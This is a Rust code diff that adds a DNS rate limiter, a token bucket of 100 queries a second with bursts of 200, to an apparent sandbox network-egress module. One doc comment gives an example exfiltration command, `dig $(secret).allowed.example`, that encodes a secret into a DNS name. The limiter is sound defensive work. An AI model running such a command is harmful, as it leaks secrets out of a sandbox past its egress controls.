@@ -32,6 +32,11 @@ use serde::{Deserialize, Serialize};
 pub const MAX_CONNECTIONS: usize = 256;
 /// The most DNS queries of a sandbox being answered at once.
 pub const MAX_DNS_IN_FLIGHT: usize = 32;
+/// DNS queries a sandbox may send a second, on average; bursts up to [`DNS_BURST`]. Names are a
+/// channel out (`dig $(secret).allowed.example`): this bounds it.
+pub const DNS_RATE: f64 = 100.0;
+/// The most DNS queries a sandbox may send at once after a quiet while.
+pub const DNS_BURST: f64 = 200.0;
 /// The most (address, name) pins a sandbox holds; the oldest go first.
 pub const MAX_PINS: usize = 4096;
 /// How long a pin outlives the answer's TTL, at least: clients cache answers longer than they
@@ -218,9 +223,25 @@ pub struct SandboxNet {
     totals: Arc<Counters>,
     denials: Mutex<std::collections::VecDeque<v1::Denial>>,
     connections: Arc<tokio::sync::Semaphore>,
+    /// The DNS token bucket: tokens left, and when it was last filled.
+    dns_tokens: Mutex<(f64, Instant)>,
 }
 
 impl SandboxNet {
+    /// Takes one DNS query's token; false when the sandbox is over [`DNS_RATE`].
+    fn dns_token(&self) -> bool {
+        let mut b = self.dns_tokens.lock().unwrap_or_else(|e| e.into_inner());
+        let now = Instant::now();
+        b.0 = (b.0 + now.duration_since(b.1).as_secs_f64() * DNS_RATE).min(DNS_BURST);
+        b.1 = now;
+        if b.0 >= 1.0 {
+            b.0 -= 1.0;
+            true
+        } else {
+            false
+        }
+    }
+
     /// Adds `n` to a counter of this sandbox's and to the same one of the server's totals.
     fn count(&self, counter: fn(&Counters) -> &AtomicU64, n: u64) {
         counter(&self.counters).fetch_add(n, Ordering::Relaxed);
@@ -302,6 +323,7 @@ impl Egress {
             totals,
             denials: Mutex::default(),
             connections: Arc::new(tokio::sync::Semaphore::new(MAX_CONNECTIONS)),
+            dns_tokens: Mutex::new((DNS_BURST, Instant::now())),
         });
         let mut tasks = Vec::new();
         let listener = std::net::TcpListener::from(sockets.connections);
